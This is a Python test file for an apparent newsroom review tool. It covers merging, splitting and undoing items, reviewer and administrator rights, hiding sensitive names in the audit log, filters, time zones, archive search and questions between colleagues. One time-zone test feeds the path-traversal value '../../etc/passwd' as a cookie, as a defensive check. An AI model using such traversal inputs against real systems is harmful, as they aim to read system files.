    for app in apps:
        desk, known = create_desk(app), app is apps[0]
        browser = client(desk, account(app, "Aida", Role.REVIEWER))
        account(app, "Root", Role.ADMIN)
        post = browser.post
        here = [a.id for a in app.item(2).articles][:1]
        moves = [
            post("/queue/together", {"pick": "1:1", "also": "3", "merging": "1"}),
            post("/queue/together", {"pick": ["1:1", "3:1"], "merging": "1"}),
            post("/queue/together/merge", {"seen": "1:1 3:1"}),
            post("/items/2/split", {"version": 1, "article": here}),  # all that is seen of it
            post("/items/2/split", {"version": 1, "article": [*here, here[0] + 1]}),  # and what is not
        ]
        if known:
            app.merge(1, 3, by="Root")
        version = app.item(1).version if known else 1
        moves += [post("/queue/together", {"pick": "2:1", "also": "3", "merging": "1"})]  # part of item 1 by now
        moves += [post("/queue/together", {"pick": ["2:1", "3:1"]}), browser.get("/items/3")]
        pages = ["/queue", "/items/1", "/items/1?same=1", "/items/2", "/items/3", "/queue.json"]
        app.clock.now += HOUR  # type: ignore[attr-defined]
        moves.append(post("/queue/together/merge", {"seen": f"1:{version} 2:1"}))
        moves += [browser.get(page) for page in pages]
        assert [r["articles"] for i in moves[-1].json()["items"] for r in i["regroupings"]] == [[2]]
        form = {"version": app.item(1).version, "article": here}
        moves += [post("/items/1/split", form), post("/items/1/split", form)]  # into what it was, and once
        moves += [browser.get(page) for page in pages]
        (done,) = html.fromstring(browser.get("/queue").text).xpath("//input[@name='regrouping']/@value")
        moves += [post("/items/2/undo", {"regrouping": done}), post("/items/2/undo", {"regrouping": done})]
        (done,) = html.fromstring(browser.get("/queue").text).xpath("//input[@name='regrouping']/@value")
        moves += [post("/items/1/undo", {"regrouping": done}), post("/items/1/undo", {"regrouping": done})]
        moves += [browser.get(page) for page in pages]
        seen.append(moves)
        if known:  # what is hidden went along and came back
            assert [[h.entity for h in app.item(n).hits] for n in (1, 2)] == [["melis", "secret"]] * 2
        app.close()
    assert [a.status_code for a in seen[0][:9]] == [200, 200, 404, 400, 400, 200, 200, 404, 303]
    for answers in seen:  # numbers of versions and of steps tell that something moved, not what
        for answer in answers:
            answer._text = re.sub(_COUNTED, "", answer.text)
    nothing_changed(*seen)


_COUNTED = r'"regroupings":\[(?:[^][]|\[[^]]*\])*\]|value="(?:\d+|\d+:\d+(?: \d+:\d+)* ?)"|"version":\d+|said=r\d+'


def test_an_administrator_still_has_to_judge_what_a_reviewer_could_not(tmp_path: Path, sqlite_with_tables: Path):
    app, other = two_homes(tmp_path, sqlite_with_tables)
    desk = create_desk(app)
    aida, admin = client(desk, account(app, "Aida", Role.REVIEWER)), client(desk, account(app, "Root", Role.ADMIN))
    say(aida, 2, "not-relevant")
    assert listed(aida) == [1] and 2 in listed(admin)
    assert {h.entity: h.verdict for h in app.item(2).hits} == {"melis": Verdict.NOT_RELEVANT, "secret": None}
    assert "sensitive" in admin.get("/items/2").text
    assert app.store.people.audit(1)[0].act is Act.READ_SENSITIVE
    secret = entity_numbers(app.store)["secret"]
    say(admin, 2, "not-relevant:common-word", app.item(2).version, entity=secret)
    assert listed(admin, "?show=decided&because=common-word") == [2]
    assert listed(aida, "?show=decided&because=common-word") == []
    assert "common word" not in aida.get("/queue?show=decided&filters=1").text
    assert app.item(2).state is State.DECIDED
    said = app.item(2).history[-1].id
    assert aida.post("/items/3/undo", {"decision": said}).status_code == 404
    for opened in (app, other):
        opened.close()


def test_of_an_administrators_step_others_take_back_what_they_can_see(tmp_path: Path, sqlite_with_tables: Path):
    app, other = two_homes(tmp_path, sqlite_with_tables)
    desk = create_desk(app)
    aida, admin = client(desk, account(app, "Aida", Role.REVIEWER)), client(desk, account(app, "Root", Role.ADMIN))
    say_all(admin, " ".join(f"{n}:{app.item(n).version}" for n in (1, 2, 3)), "not-relevant")
    said = app.item(1).history[-1].id
    assert "Take the whole step back (3 stories)" in admin.get("/items/1").text
    assert "Take the whole step back (2 stories)" in aida.get("/items/1").text
    assert aida.post("/items/1/undo", {"decision": said}).status_code == 303
    assert [app.item(n).state for n in (1, 2, 3)] == [State.OPEN, State.OPEN, State.DECIDED]
    admin.post("/items/3/undo", {"decision": app.item(3).history[-1].id})
    assert app.item(3).state is State.OPEN
    for opened in (app, other):
        opened.close()


def test_the_log_holds_numbers_and_no_names(app: App):
    admin = client(create_desk(app), account(app, "Root", Role.ADMIN))
    app.store.watchlists.apply(WatchlistChange(changed=((MELIS, replace(MELIS, sensitive=True)),)), "test", NOW)
    try:
        admin.get("/items/4")
        say(admin, 4, "relevant", note="about Melis Tokoev")
        page = admin.get("/audit").text
        assert "read an item with a sensitive name" in page and "decided" in page
        assert not any(name in page for name in (*MELIS.spellings, CHOLPON.name))
    finally:
        app.store.watchlists.apply(WatchlistChange(changed=((MELIS, MELIS),)), "test", NOW)


# ---- addresses ------------------------------------------------------------------------------------------------------


@given(
    st.sampled_from(list(QueueTab)),
    st.one_of(st.none(), st.integers(0, 10**8)),
    st.text(max_size=30),
    st.sampled_from(["", "ky"]),
    st.one_of(st.none(), st.sampled_from(list(Confidence))),
    st.one_of(st.none(), st.sampled_from(list(Reason))),
    st.dates(min_value=datetime(1991, 1, 1).date(), max_value=datetime(2199, 12, 30).date()),
)
def test_filters_come_back_from_their_address(
    split_: QueueTab, name: int | None, outlet: str, language: str, sure, reason, day
):  # type: ignore[no-untyped-def]
    from urllib.parse import parse_qsl, urlsplit
    from zoneinfo import ZoneInfo

    zone = ZoneInfo("Asia/Bishkek")
    query = {"show": split_.value, "name": "" if name is None else str(name), "outlet": outlet, "lang": language,
             "country": language.upper(), "because": reason or "", "sure": sure.value if sure else "", "since": day.isoformat()}  # fmt: skip
    filters = Filters.from_query(query, zone)
    address = urlsplit(filters.link("/queue"))
    assert Filters.from_query(dict(parse_qsl(address.query)), zone) == filters


@pytest.mark.parametrize(
    ("zone", "shown", "place"),
    [
        ("Europe/Berlin", "09:00", "Berlin (UTC+1)"),
        ("Asia/Kathmandu", "13:45", "Kathmandu (UTC+5:45)"),
        ("", "08:00", "UTC"),
        ("../../etc/passwd", "08:00", "UTC"),
        ("Nowhere/Town", "08:00", "UTC"),
    ],
)
def test_times_are_those_of_the_readers_zone_and_filters_those_of_the_newsroom(
    app: App, aida: Browser, zone: str, shown: str, place: str
):
    aida.cookies.set("zone", zone)
    page = words_of(aida, f"/queue?since={NOW:%Y-%m-%d}")
    assert f"ru · {shown}" in page and f"Times: {place}" in page
    assert listed(aida, f"?since={NOW:%Y-%m-%d}") == listed(aida)  # all of that day in UTC


@pytest.mark.parametrize(
    ("words", "is_found"),
    [
        ("ночные автобусы", True), ("НОЧНЫЕ Автобусы", True), ("nochnye avtobusy", True), ("azamat", True), ("Азаматтын", False),
        ("автобусы поезда", False), ("дневные", False), ("—", False), ("", False),
    ],
)  # fmt: skip
def test_the_archive_is_searched_in_any_script_also_where_nobody_is_named(
    tmp_path: Path, sqlite_with_tables: Path, words: str, is_found: bool
):
    app = home(tmp_path, sqlite_with_tables)
    app.clock = lambda: NOW
    watch(app.store)
    filed(app.store)
    (entry,) = backlog(app.store, item_of(1))
    text = "Ночные автобусы пойдут до утра, сказал Азамат."
    unnamed = article("post.example/1", text, title="Night buses")
    app.store.entries.save_result(Result(entry, NOW, Outcome.NO_MATCH, article=unnamed))
    root = client(create_desk(app), account(app, "Root", Role.ADMIN))
    assert "2 articles are not searched yet" in words_of(root, "/archive")
    app.store.archive.index_texts(10)
    assert "not searched yet" not in words_of(root, "/archive")
    address = root.post("/archive", {"words": words}).headers["location"]
    page = words_of(root, address)
    assert ("Night buses" in page) is is_found and ("in no item" in page) is is_found
    reviewer = client(root.desk, account(app, "Aida", Role.REVIEWER))
    address = reviewer.post("/archive", {"words": words}).headers["location"]
    assert ("Night buses" in words_of(reviewer, address)) is is_found
    app.close()


def test_a_question_goes_back_and_forth_between_two_people(app: App, aida: Browser, bakyt: Browser):
    mine = "?show=asked&to=me"
    say(aida, 3, "unsure", colleague="Bakyt", note="Is it her?")
    assert (listed(bakyt, mine), listed(aida, mine)) == ([3], [])
    assert "Aida asks you: Is it her?" in words_of(bakyt, "/items/3") and "Asked of you 1" in words_of(bakyt, "/queue")
    say(bakyt, 3, "unsure", version=2, colleague="Aida", note="It is.")
    assert (listed(bakyt, mine), listed(aida, mine)) == ([], [3])
    assert "Bakyt answers you: It is." in words_of(aida, "/items/3")
    app.undo(by="Bakyt", item=3)
    assert (listed(bakyt, mine), listed(aida, mine)) == ([3], [])
    say(aida, 3, "unsure", version=4, colleague="Bakyt", entity=2)  # of one name, beside the other question
    say(bakyt, 3, "relevant", version=5)
    assert listed(bakyt, mine) == [] or app.item(3).question
    assert "/queue?show=asked&to=me" not in aida.get("/queue").text


def test_a_question_to_a_colleague_goes_with_its_story_into_another(app: App, aida: Browser, bakyt: Browser):
    mine = "?show=asked&to=me"
    say(aida, 3, "unsure", colleague="Bakyt", note="Is it her?")
    say(
        aida,
        3,
        "unsure",
        version=2,
        colleague="Bakyt",
        note="Which Cholpon?",
        entity=entity_numbers(app.store)["cholpon"],
    )
    app.merge(4, 3, by="Aida")
    app.merge(2, 4, by="Aida")
    assert listed(bakyt, mine) == [2] and "Asked of you 1" in words_of(bakyt, "/queue")
    app.undo(by="Aida")
    assert listed(bakyt, mine) == [4]
    say(bakyt, 4, "unsure", version=app.item(4).version, colleague="Aida", note="It is.")
    assert (listed(bakyt, mine), listed(aida, mine)) == ([4], [4])  # the name's question is still open
    app.undo_regrouping(app.item(4).regroupings[0], by="Aida")
    assert listed(bakyt, mine) == [3]


@pytest.mark.parametrize(
    ("again", "status"),
    [
        ({"colleague": "Bakyt", "note": "Is it her? "}, 303),
        ({"colleague": "Vera", "note": "Is it her?"}, 409),
        ({"colleague": "Bakyt", "note": "Which town?"}, 409),
    ],
)
def test_a_second_question_from_an_old_card_is_not_taken_for_the_first(
    app: App, aida: Browser, bakyt: Browser, again: dict[str, str], status: int
):
    account(app, "Vera", Role.REVIEWER)
    say(aida, 3, "unsure", colleague="Bakyt", note="Is it her?")
    answer = aida.post("/items/3/decide", {"act": "unsure", "version": 1, **again})
    assert answer.status_code == status and len(app.item(3).history) == 1
    if status == 409:
        assert html.fromstring(answer.text).get_element_by_id("note").text == again["note"]


@pytest.mark.parametrize("colleague", ["Nobody", "Aida", "Reader"])
def test_only_others_who_may_decide_are_asked_by_name(app: App, aida: Browser, colleague: str):
    account(app, "Reader", Role.READER)
    assert say(aida, 3, "unsure", colleague=colleague, note="Is it her?")[0] == 303
    assert [(d.note, d.colleague) for d in app.item(3).history] == [("Is it her?", "")]


def answer_form(browser: Browser, item: int) -> dict[str, str]:
    """Return the hidden fields of the form on the card that answers a question."""
    (form,) = html.fromstring(browser.get(f"/items/{item}").text).xpath("//form[@class='answer']")
    return {field.get("name"): field.get("value") for field in form.xpath(".//input[@type='hidden']")}


@pytest.mark.parametrize("asker", ["login", "Bakyt", "Closed", "Demoted"])
def test_a_question_is_answered_whoever_asked_it(app: App, aida: Browser, bakyt: Browser, asker: str):
    app.store.people.save(replace(account(app, "Closed", Role.REVIEWER), closed=app.clock()))
    account(app, "Demoted", Role.READER)
    app.decide(3, Verdict.UNSURE, by=asker, note="Is it her?")
    assert say(aida, 3, "unsure", note="It is.", **answer_form(aida, 3))[0] == 303
    answer = app.item(3).history[-1]
    assert (answer.note, answer.colleague) == ("It is.", asker if asker == "Bakyt" else "")


def test_an_answer_after_the_session_ended_comes_back(app: App, aida: Browser, bakyt: Browser):
    say(bakyt, 3, "unsure", colleague="Aida", note="Is it her?")
    form = {"act": "unsure", "note": NOTE, **answer_form(aida, 3)}
    app.clock.now += 13 * HOUR
    asked = aida.post("/items/3/decide", form)
    assert asked.status_code == 401 and "Your note is kept" in asked.text
    card = followed(aida, sign_in(aida, "Aida", asked.text))
    assert "your session had ended" in card.text and html.fromstring(card.text).get_element_by_id("note").text == NOTE


def test_about_a_sensitive_name_alone_only_those_are_asked_who_may_know_of_it(app: App):
    watch(app.store, SECRET)
    item = filed(app.store, hit("Aizada Hidden", "secret", "Aizada Hidden left."), text="Aizada Hidden left.", at=NOW)
    root, _ = client(create_desk(app), account(app, "Root", Role.ADMIN)), account(app, "Vera", Role.REVIEWER)
    account(app, "Chief", Role.ADMIN)
    options = html.fromstring(root.get(f"/items/{item.id}").text).xpath("//select[@id='colleague']/option/text()")
    assert options == ["any colleague", "Chief"]


def test_a_note_alone_decides_nothing_and_is_stored_once(app: App, aida: Browser, bakyt: Browser):
    before = app.item(3)
    for _ in range(2):
        assert say(aida, 3, "note", note=" seen in court ") == (303, "/items/3")
    after = app.item(3)
    assert [(d.note, d.verdict) for d in after.history] == [("seen in court", None)]
    assert (after.version, after.state, after.verdict) == (before.version, before.state, None)
    assert item_row(after)["history"][0]["verdict"] == "note" and app.last_action("Aida") is None
    assert "seen in court" in words_of(bakyt, "/items/3")
    say(bakyt, 3, "relevant")
    assert say(aida, 3, "note", note="too late")[0] == 409
    assert "too late" in aida.post("/items/3/decide", {"act": "note", "version": 1, "note": "too late"}).text
